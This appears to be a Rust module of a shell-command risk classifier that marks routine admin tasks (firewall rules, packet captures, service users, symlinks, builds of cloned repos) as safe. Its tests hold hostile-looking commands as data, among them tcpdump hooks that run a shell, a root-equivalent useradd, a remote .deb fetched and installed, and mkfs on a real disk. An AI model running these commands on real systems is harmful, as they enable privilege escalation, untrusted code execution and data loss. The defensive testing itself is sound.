//! Everyday work that takes nothing away and trusts nobody new, in closed lists of its forms: a door for a private
//! network, a bounded record of packets, a service that is started on other machines, a package that was built a
//! moment ago, a link to one's own settings, the build of what a forge has just sent.

use super::call::Call;
use super::effect::Effect;
use super::machine::{Fact, Field, Known, Machine};
use super::{EffectKind, TargetClass, indices, known, paths, publishers, value};
use crate::specs::Role;

/// Programs that make packages out of the project at hand.
const BUILDERS: &[&str] = &["cpack", "debuild", "dpkg-buildpackage", "makepkg"];

/// What build systems are asked for that stays in the folder.
const ASKED: &[&str] = &[
    "assemble",
    "bootJar",
    "bootRun",
    "build",
    "check",
    "clean",
    "compile",
    "package",
    "run",
    "spring-boot:run",
    "test",
    "verify",
];

impl Machine<'_> {
    /// True for a call that opens a door to a private network alone, and for a record of packets that has a bound.
    pub(super) fn is_routine(&self, call: &Call<'_>) -> bool {
        match call.program {
            "ufw" => {
                let words: Vec<&str> = call.args.operands().map(|item| item.text).collect();
                call.args.items.iter().all(|item| matches!(item.role, Role::Operand(_)))
                    && (opens_inside(&words) || opens_usual(&words))
            }
            "usermod" => {
                let groups: Vec<&str> = call.args.values("-G").map(|item| item.text).collect();
                call.args.has("-a")
                    && call.has_only(&["-a", "-G"])
                    && !groups.is_empty()
                    && groups.iter().flat_map(|list| list.split(',')).all(is_of_devices)
            }
            "tcpdump" => self.records_a_little(call),
            "dpkg" => self.is_just_built(call),
            "useradd" => {
                is_for_a_service(call)
                    || call.has_only(&[])
                        && call.args.operands().count() == 2
                        && call.args.operands().last().is_some_and(|item| is_of_devices(item.text))
            }
            _ => false,
        }
    }

    fn records_a_little(&self, call: &Call<'_>) -> bool {
        let first = call.argv.first().map_or("", |field| field.text.rsplit('/').next().unwrap_or_default());
        let own = |text: &str| {
            let place = paths::locate(text, &self.state.cwd, self.ctx);
            let usual =
                matches!(place.class, TargetClass::Local | TargetClass::HomeFile | TargetClass::Temporary);
            usual && (text.ends_with(".pcap") || text.ends_with(".pcapng")) && !value::has_hole(text)
        };
        first == "tcpdump"
            && call.has_only(&[
                "-i", "-w", "-n", "-nn", "-c", "-s", "-v", "-vv", "-vvv", "-e", "-q", "-t", "-tttt", "-l",
            ])
            && (call.args.has("-c") || call.args.operands().next().is_some())
            && call.args.values("-w").all(|item| own(item.text))
    }

    /// Notes that a package was built, once that has succeeded.
    pub(super) fn builds_packages(&mut self, name: &str) {
        if BUILDERS.contains(&name) && !self.mute && !self.abroad {
            self.facts.push(Fact { on: true, what: Known::Built(self.commands.len()) });
        }
    }

    /// `cpack -G DEB && sudo dpkg -i x.deb`, and nothing in between.
    fn is_just_built(&self, call: &Call<'_>) -> bool {
        let between = self.state.built.map(|at| self.commands.get(at..).unwrap_or_default());
        let next = between.is_some_and(|commands| {
            commands.iter().all(|command| {
                matches!(command.argv.first(), Some(Some(name))
                    if matches!(name.as_str(), "sudo" | "dpkg") || BUILDERS.contains(&name.as_str()))
            })
        });
        let mut files = call.args.operands();
        let (Some(file), None) = (files.next(), files.next()) else { return false };
        let plain = |letter: char| letter.is_ascii_alphanumeric() || "._-+~/".contains(letter);
        next && call.args.has("-i")
            && call.has_only(&["-i"])
            && file.text.ends_with(".deb")
            && !file.text.starts_with('/')
            && file.text.chars().all(plain)
            && self.own_file(file.text).is_none()
            && self.commands.len() < super::record::COMMANDS
    }

    /// True for a program of a folder that a forge has just sent which builds it, and nothing else has touched it since.
    pub(super) fn builds_in_place(&self, argv: &[Field]) -> bool {
        if self.forged.is_empty() {
            return false;
        }
        let Some((first, rest)) = argv.split_first() else { return false };
        let path = paths::locate_path(&first.text, &self.state.cwd, self.ctx);
        let relative = !path.starts_with(['/', value::HOME]) && !path.starts_with("..");
        let mut from = self.forged.iter().filter(|clone| {
            clone.folder == "." && relative
                || path.strip_prefix(clone.folder.as_str()).is_some_and(|rest| rest.starts_with('/'))
        });
        let (Some(clone), None) = (from.next(), from.next()) else { return false };
        let once = self.cloned.iter().filter(|folder| **folder == clone.folder).count() == 1;
        let untouched = self.commands.len() < super::record::COMMANDS
            && self.commands.iter().skip(clone.since).all(|command| {
                let word = |at: usize| command.argv.get(at).and_then(Option::as_deref).unwrap_or_default();
                let name = word(0);
                matches!(name, "cd" | "pushd" | "mkdir" | "make" | "git")
                    && (name != "git" || word(1) == "clone")
                    || name.contains('/') && SCRIPTS.contains(&name.rsplit('/').next().unwrap_or_default())
            });
        let name = first.text.rsplit('/').next().unwrap_or_default();
        let asked = rest.iter().all(|word| {
            let plain = |letter: char| letter.is_ascii_alphanumeric() || "-_=.:/,+".contains(letter);
            ASKED.contains(&word.text.as_str()) || word.text.starts_with('-') && word.text.chars().all(plain)
        });
        let script = SCRIPTS.contains(&name)
            || clone.known
                && (name.starts_with("bootstrap") || matches!(name, "install" | "install.sh" | "setup.sh"));
        once && untouched && asked && script
    }

    /// Notes a release of sources that was unpacked here.
    pub(super) fn released(&mut self, folder: &str) {
        if self.forged.len() < 8 && !self.abroad {
            let clone = Clone { folder: folder.to_owned(), known: false, since: self.commands.len() };
            self.forged.push(clone);
        }
    }

    /// Notes a clone by `https` from a forge.
    pub(super) fn forged(&mut self, from: &str, folder: &str) {
        let host = known::host_of(from);
        let plain = from.starts_with("https://")
            && known::is_forge(host)
            && from.strip_prefix("https://").is_some_and(|rest| rest.starts_with(host))
            && !value::has_hole(from);
        if plain && self.forged.len() < 8 && !self.abroad {
            let address = from.strip_suffix(".git").unwrap_or(from);
            let clone = Clone {
                folder: folder.to_owned(),
                known: publishers::is_repository(address),
                since: self.commands.len(),
            };
            self.forged.push(clone);
        }
    }

    /// `ln -sfn ~/dotfiles/nvim ~/.config/nvim`: one's own settings, kept elsewhere, under their name.
    pub(super) fn links_settings(&self, call: &Call<'_>, text: &str, sources: &[&str]) -> bool {
        let [source] = sources else { return false };
        let from = paths::locate_path(source, &self.state.cwd, self.ctx);
        let to = paths::locate(text, &self.state.cwd, self.ctx);
        let show = |text: &str| self.unknowns.show(text);
        let (from, path) = (show(&from), show(&to.path));
        let home = self.ctx.home.as_deref().unwrap_or("~");
        let below = |path: &str| {
            let rest = path.strip_prefix(home).or_else(|| path.strip_prefix('~'))?;
            rest.strip_prefix('/').map(str::to_owned)
        };
        let (Some(from), Some(to_name)) = (below(&from), below(&path)) else { return false };
        let Some(name) = to_name.strip_prefix(".config/").filter(|name| !name.contains('/')) else {
            return false;
        };
        call.program == "ln"
            && call.has_only(&["-s", "-f", "-n", "-v"])
            && call.args.has("-s")
            && call.args.has("-n")
            && to.class == TargetClass::HomeFile
            && !matches!(name, "autostart" | "environment.d" | "fish" | "systemd")
            && [".dotfiles/", "dotfiles/"].iter().any(|folder| from.starts_with(folder))
            && from.rsplit('/').next() == Some(name)
    }
}

impl Machine<'_> {
    /// `ln -sf ~/dotfiles/zshrc ~/.zshrc`: a startup file that people keep among their dotfiles, under its name. What the line
    /// itself brought there is nobody's own.
    pub(super) fn links_dotfiles(&self, call: &Call<'_>, text: &str, sources: &[&str]) -> bool {
        let [source] = sources else { return false };
        if call.program != "ln"
            || !call.args.has("-s")
            || !call.has_only(&["-s", "-f", "-n", "-v", "-r", "-T", "-b"])
            || value::has_hole(source)
        {
            return false;
        }
        let from = paths::locate(source, &self.state.cwd, self.ctx);
        let to = paths::locate_path(text, &self.state.cwd, self.ctx);
        let show = |text: &str| self.unknowns.show(text);
        let (from_path, to) = (show(&from.path), show(&to));
        let home = self.ctx.home.as_deref().unwrap_or("~");
        let below = |path: &str| {
            let rest = path.strip_prefix(home).or_else(|| path.strip_prefix('~'))?;
            rest.strip_prefix('/').map(str::to_owned)
        };
        let (Some(kept), Some(to)) = (below(&from_path), below(&to)) else { return false };
        let base =
            |path: &str| path.rsplit('/').next().unwrap_or_default().trim_start_matches('.').to_owned();
        let dotted = |part: &str| matches!(part, ".dotfiles" | "dotfiles" | ".dots" | "dots");
        let name = if text.ends_with('/') || to.is_empty() { base(&from_path) } else { base(&to) };
        !to.contains("ssh")
            && kept.split('/').any(dotted)
            && name == base(&from_path)
            && self.own_file(source).is_none()
            && self.script_text(source).is_none()
            && !self.is_from_elsewhere(&from.path)
            && !self.touches_dotfiles(&kept)
    }

    /// True where the line has done something in the folder before: what lies there may be from elsewhere since then.
    fn touches_dotfiles(&self, kept: &str) -> bool {
        const LOOKS: &[&str] = &["[", "cd", "echo", "ln", "ls", "mkdir", "printf", "pwd", "test"];
        let folder: Vec<&str> = kept.split('/').take(3).collect();
        let dotted = |part: &&str| part.trim_start_matches('.').starts_with("dot");
        let Some(name) = folder.iter().find(|part| dotted(part)) else { return true };
        let links = self.state.shell().links.iter().any(|(place, _)| place.ends_with(&format!("/{name}")));
        links
            || self.commands.iter().take(super::record::COMMANDS).any(|command| {
                let mut words = command.argv.iter().flatten();
                let first = words.next().map_or("", |word| word.rsplit('/').next().unwrap_or_default());
                !LOOKS.contains(&first) && words.any(|word| word.contains(*name))
            })
    }

    /// `ln -s /etc/nginx/sites-available/x /etc/nginx/sites-enabled/`: a site that is there already is taken into use. Without
    /// force nothing is replaced.
    pub(super) fn links_site(&self, call: &Call<'_>, text: &str, sources: &[&str]) -> bool {
        let [source] = sources else { return false };
        let to = paths::locate_path(text, &self.state.cwd, self.ctx);
        let parent = to.trim_end_matches('/');
        // The link's own name, or the folder that it goes into.
        let (base, name) = match parent.rsplit_once('/') {
            Some((folder, name)) if folder.ends_with("-enabled") => (folder, name),
            _ => (parent, ""),
        };
        let Some((server, kind)) = base.strip_suffix("-enabled").and_then(|base| base.rsplit_once('/'))
        else {
            return false;
        };
        let known = matches!(server, "/etc/apache2" | "/etc/nginx" | "/etc/lighttpd")
            && matches!(kind, "conf" | "mods" | "modules" | "sites");
        let there = format!("{server}/{kind}-available/");
        // A link that says `..` says it of the folder in which it lies.
        let from = match source.strip_prefix("../") {
            Some(rest) => format!("{server}/{rest}"),
            None => paths::locate_path(source, &self.state.cwd, self.ctx),
        };
        let own = from.strip_prefix(there.as_str()).unwrap_or_default();
        known
            && call.program == "ln"
            && call.args.has("-s")
            && call.has_only(&["-s", "-v", "-r", "-n"])
            && !own.is_empty()
            && own.chars().all(|letter| letter.is_ascii_alphanumeric() || "-_.".contains(letter))
            && (name.is_empty() || name == own)
            && self.own_file(source).is_none()
    }

    /// Searches of machines near by: one's own, or those of an exercise.
    pub(super) fn searches_near(&mut self, call: &Call<'_>) {
        let mut words = call.argv.iter().skip(1).map(|field| self.unknowns.show(&field.text));
        let mut hosts = 0;
        let near = words.all(|word| {
            let Some((_, url)) = word.split_once("://") else { return true };
            hosts += 1;
            let host = url.split(['/', ':', '?']).next().unwrap_or_default();
            indices::is_near(host) && !host.starts_with('$')
        });
        if near
            && hosts > 0
            && let Some(at) = self.effects.iter().rposition(|effect| effect.detail == "scans")
        {
            self.effects.remove(at);
        }
    }
}

/// A folder that a forge has sent.
#[derive(Clone, Debug)]
pub(super) struct Clone {
    folder: String,
    /// True where everybody knows whose it is.
    known: bool,
    /// Commands before it.
    since: usize,
}

/// Scripts by which projects are built, which leave everything in their folder. Sorted.
const SCRIPTS: &[&str] = &["autogen.sh", "configure", "gradlew", "mvnw"];

/// `useradd --system --shell /usr/sbin/nologin NAME`: a user of a service, under whom nobody logs in.
fn is_for_a_service(call: &Call<'_>) -> bool {
    let shells: Vec<&str> = call.args.values("-s").map(|item| item.text).collect();
    let closed = shells.len() == 1
        && ["/bin/false", "/sbin/nologin", "/usr/bin/false", "/usr/sbin/nologin"].contains(&shells[0]);
    let mut names = call.args.operands();
    call.args.has("-r")
        && call.has_only(&["-r", "-s", "-m", "-M", "-d", "-U", "-N", "-c"])
        && closed
        && names.next().is_some_and(|item| !value::has_hole(item.text))
        && names.next().is_none()
}

/// True for a group whose members may use a sort of device: none of them gives what is on the disks, or root.
fn is_of_devices(group: &str) -> bool {
    const GROUPS: &[&str] = &[
        "audio",
        "cdrom",
        "dialout",
        "games",
        "gpio",
        "i2c",
        "input",
        "lp",
        "lpadmin",
        "netdev",
        "plugdev",
        "render",
        "scanner",
        "spi",
        "tty",
        "uucp",
        "video",
        "wireshark",
    ];
    super::data::holds(GROUPS, group)
}

/// `allow 443/tcp comment '…'`, `allow OpenSSH`: doors that every server of pages has open.
fn opens_usual(words: &[&str]) -> bool {
    const DOORS: &[&str] = &[
        "22",
        "22/tcp",
        "443",
        "443/tcp",
        "80",
        "80/tcp",
        "Apache",
        "Apache Full",
        "Apache Secure",
        "Nginx Full",
        "Nginx HTTP",
        "Nginx HTTPS",
        "OpenSSH",
        "http",
        "http/tcp",
        "https",
        "https/tcp",
        "ssh",
        "ssh/tcp",
    ];
    let ["allow", rest @ ..] = words else { return false };
    let rest = match rest {
        ["in", rest @ ..] => rest,
        rest => rest,
    };
    matches!(rest, [door] | [door, "comment", _] if super::data::holds(DOORS, door))
}

/// `allow from 10.8.0.0/24 to any port 8123 proto tcp comment '…'`.
fn opens_inside(words: &[&str]) -> bool {
    let ["allow", "from", network, "to", "any", "port", port, rest @ ..] = words else { return false };
    let rest = match rest {
        ["proto", "tcp" | "udp", rest @ ..] => rest,
        rest => rest,
    };
    is_private(network)
        && port.chars().all(|letter| letter.is_ascii_digit())
        && matches!(rest, [] | ["comment", _])
}

/// True for a network, or an address, that only machines of the same house can have.
fn is_private(network: &str) -> bool {
    let (address, bits) = network.split_once('/').unwrap_or((network, "32"));
    let parts: Vec<Option<u8>> = address.split('.').map(|part| part.parse().ok()).collect();
    let (Ok(bits), [Some(first), Some(second), Some(_), Some(_)]) = (bits.parse::<u8>(), &parts[..]) else {
        return false;
    };
    bits <= 32
        && match first {
            10 => bits >= 8,
            172 => (16..32).contains(second) && bits >= 12,
            192 => *second == 168 && bits >= 16,
            _ => false,
        }
}

/// True for the effects that [`Machine::is_routine`] speaks of.
pub(super) fn is_of_routine(effect: &Effect) -> bool {
    matches!(effect.kind, EffectKind::Configure | EffectKind::Overwrite | EffectKind::Install)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::safety::Risk::{Critical, High, Moderate, Safe};
    use crate::safety::tests::{check_all, context};

    #[test]
    fn networks_of_a_house() {
        for network in ["10.8.0.0/24", "192.168.1.7", "172.16.0.0/12"] {
            assert!(is_private(network), "{network}");
        }
        for network in
            ["0.0.0.0/0", "10.0.0.0/0", "172.32.0.0/16", "192.169.0.0/16", "10.8.0/24", "any", "10.0.0.0/40"]
        {
            assert!(!is_private(network), "{network}");
        }
    }

    #[test]
    fn everyday_work_takes_nothing_away() {
        check_all(
            &context(),
            &[
                (Safe, "sudo ufw allow from 10.8.0.0/24 to any port 8123 proto tcp comment 'by vpn'"),
                (Moderate, "sudo ufw allow from 203.0.113.0/24 to any port 22"),
                (Moderate, "sudo ufw allow from 10.0.0.0/8"),
                (Safe, "sudo tcpdump -i eth0 -nn -c 200 -w /tmp/dns.pcap port 53"),
                (Safe, "sudo tcpdump -ni eth0 'port 53' -c 100 -w dns.pcap"),
                (Moderate, "sudo tcpdump -i any -s0 -w /tmp/all.pcap"),
                (High, "sudo tcpdump -i any -c 1 -w /tmp/x.pcap -z /tmp/run.sh"),
                (High, "sudo tcpdump -c 1 -w /etc/cron.d/x.pcap port 1"),
                (High, "tcpdump -z sh -G 1 -w x"),
                (High, "sudo tcpdump -i any -c 1 -w /tmp/x.pcap -z /bin/bash"),
                (Moderate, "sudo tcpdump -i any -w x.pcap -z gzip -G 60"),
                (Safe, "docker rm -f web && docker run -d --name web nginx"),
                (High, "DOCKER_HOST=ssh://prod docker rm -f web && docker run -d --name web nginx"),
                (Moderate, "docker rm -f web; docker run -d --name web nginx"),
                (Moderate, "docker rm -fv web && docker run -d --name web nginx"),
                (Moderate, "docker rm -f web db && docker run -d --name web nginx"),
                (Moderate, "docker rm -f web && docker run -d nginx && docker tag --name web"),
                (Moderate, "docker rm -f web && docker run -d --name web --net host nginx"),
                (Moderate, "docker rm -f web && docker run -d --name web --network=host nginx"),
                (Moderate, "docker rm -f web && docker run -d --name web evil.example/nginx"),
                (High, "docker rm -f web && docker run -d --name web --privileged nginx"),
                (Safe, "docker rm -f web && docker run -d --name web -p 80:80 ghcr.io/acme/web:1"),
                (Safe, "sudo useradd --system --shell /usr/sbin/nologin --create-home prometheus"),
                (Moderate, "sudo useradd --system --shell /bin/bash prometheus"),
                (High, "sudo useradd --system --shell /usr/sbin/nologin -o -u 0 prometheus"),
                (High, "sudo useradd --system --shell /usr/sbin/nologin -G wheel prometheus"),
                (Moderate, "sudo useradd anna"),
                (Moderate, "sudo useradd -m -G docker anna"),
                (Moderate, "sudo usermod -aG docker anna"),
                (Safe, "sudo usermod -aG dialout \"$USER\""),
                (Safe, "sudo usermod -a -G plugdev,dialout anna"),
                (Safe, "sudo adduser anna dialout"),
                (High, "sudo usermod -aG dialout,sudo anna"),
                (Moderate, "sudo usermod -aG dialout -s /bin/zsh anna"),
                (Moderate, "sudo usermod -G dialout anna"),
                (Safe, "sudo ufw allow 443/tcp comment 'https' && sudo ufw status numbered"),
                (Safe, "sudo ufw allow OpenSSH && sudo ufw allow 'Nginx Full'"),
                (Moderate, "sudo ufw allow 3306"),
                (Moderate, "sudo ufw delete allow 22"),
                (Moderate, "sudo ufw allow from any"),
                (High, "sudo useradd -m -G disk anna"),
                (Safe, "systemctl --user enable --now syncthing.service"),
                (Moderate, "systemctl --user enable --now ~/x.service"),
                (Safe, "sudo -u postgres initdb -D /var/lib/postgres/data"),
                (Moderate, "sudo initdb -D /etc/x"),
                (Safe, "git rebase origin/main"),
                (Moderate, "git rebase -X theirs origin/main"),
                (High, "git rebase main && git push --force"),
                (Safe, "ansible web -b -m service -a 'name=chrony state=started'"),
                (Moderate, "ansible web -b -m service -a 'name=chrony state=restarted'"),
                (Moderate, "ansible web -b -m service -a 'name=/tmp/x state=started'"),
                (Safe, "cd build && cpack -G DEB && sudo dpkg -i nvim-linux-x86_64.deb"),
                (Moderate, "cpack -G DEB; sudo dpkg -i nvim-linux-x86_64.deb"),
                (High, "cpack -G DEB && curl -O https://e.example/x.deb && sudo dpkg -i x.deb"),
                (Moderate, "cpack -G DEB && cp ~/Downloads/x.deb . && sudo dpkg -i x.deb"),
                (Moderate, "cpack -G DEB && sudo dpkg -i /tmp/x.deb"),
                (Safe, "ln -sfn ~/dotfiles/nvim ~/.config/nvim"),
                (Moderate, "ln -sfn ~/Downloads/nvim ~/.config/nvim"),
                (Moderate, "ln -sfn ~/dotfiles/x ~/.config/nvim"),
                (Moderate, "ln -sf ~/dotfiles/nvim ~/.config/nvim"),
                (Moderate, "ln -sfn ~/dotfiles/.bashrc ~/.bashrc"),
                (Safe, "sudo ln -s /etc/nginx/sites-available/x /etc/nginx/sites-enabled/ && sudo nginx -t"),
                (Safe, "sudo ln -s ../sites-available/x /etc/nginx/sites-enabled/x"),
                (Safe, "sudo ln -s /etc/apache2/mods-available/rewrite.load /etc/apache2/mods-enabled/"),
                (Safe, "sudo ln -s /etc/apache2/conf-available/y.conf /etc/apache2/conf-enabled/y.conf"),
                (Moderate, "sudo ln -sf /etc/nginx/sites-available/x /etc/nginx/sites-enabled/"),
                (Moderate, "sudo ln -s /tmp/x.conf /etc/nginx/sites-enabled/"),
                (Moderate, "sudo ln -s /etc/nginx/sites-available/x /etc/nginx/sites-enabled/default"),
                (Moderate, "sudo ln -s /etc/nginx/sites-available/../../shadow /etc/nginx/sites-enabled/"),
                (Moderate, "sudo ln -s /etc/nginx/conf-available/x /etc/nginx/sites-enabled/"),
                (Safe, "gobuster dir -u http://10.10.11.42/ -w words.txt -o gobuster.out"),
                (Safe, "ffuf -u http://localhost:8080/FUZZ -w words.txt"),
                (Moderate, "gobuster dir -u https://example.com/ -w words.txt"),
                (Moderate, "ffuf -u \"http://$host/FUZZ\" -w words.txt"),
                (Moderate, "masscan -p 80 203.0.113.0/24"),
                (
                    Safe,
                    "john --wordlist=rockyou.txt --format=raw-sha256 hashes.txt && john --show hashes.txt",
                ),
                (Safe, "truncate -s 1G /tmp/t.img && mkfs.ext4 -qF /tmp/t.img"),
                (Safe, "dd if=/dev/zero of=fs.img bs=1M count=64 && mkfs.vfat fs.img"),
                (Moderate, "mkfs.vfat fs.img"),
                (Moderate, "truncate -s 1G a.img && mkfs.ext4 -qF b.img"),
                (Critical, "truncate -s 1G a.img && sudo mkfs.ext4 -qF /dev/sdb1"),
                (Safe, "rm -rf src/App/bin src/App/obj"),
                (Safe, "rm -rf bin obj"),
                (Moderate, "rm -rf bin"),
                (Moderate, "rm -rf a/bin b/obj"),
            ],
        );
    }

    #[test]
    fn what_a_forge_has_sent_is_built_in_its_folder() {
        check_all(
            &context(),
            &[
                (Safe, "git clone https://github.com/someone/app.git && cd app && ./mvnw package"),
                (
                    Safe,
                    "git clone https://github.com/someone/app && cd app && ./configure --prefix=/opt/app && make",
                ),
                (
                    Safe,
                    "git clone https://github.com/microsoft/vcpkg.git && ./vcpkg/bootstrap-vcpkg.sh -disableMetrics",
                ),
                (Moderate, "git clone https://github.com/someone/vcpkg.git && ./vcpkg/bootstrap-vcpkg.sh"),
                (Moderate, "git clone https://github.com/someone/app.git && cd app && ./install.sh"),
                (Moderate, "git clone https://forge.example/someone/app.git && cd app && ./configure"),
                (Moderate, "git clone https://github.com@forge.example/app.git && cd app && ./configure"),
                (High, "git clone https://github.com/someone/app.git && cd app && sudo ./configure"),
                (Moderate, "git clone https://github.com/someone/app && cd app && ./gradlew publish"),
                (
                    Moderate,
                    "git clone https://github.com/someone/app && cd app && cp ~/x configure && ./configure",
                ),
                (
                    Moderate,
                    "git clone https://github.com/someone/app && cd app && git pull https://e.example/x && ./configure",
                ),
            ],
        );
    }
}
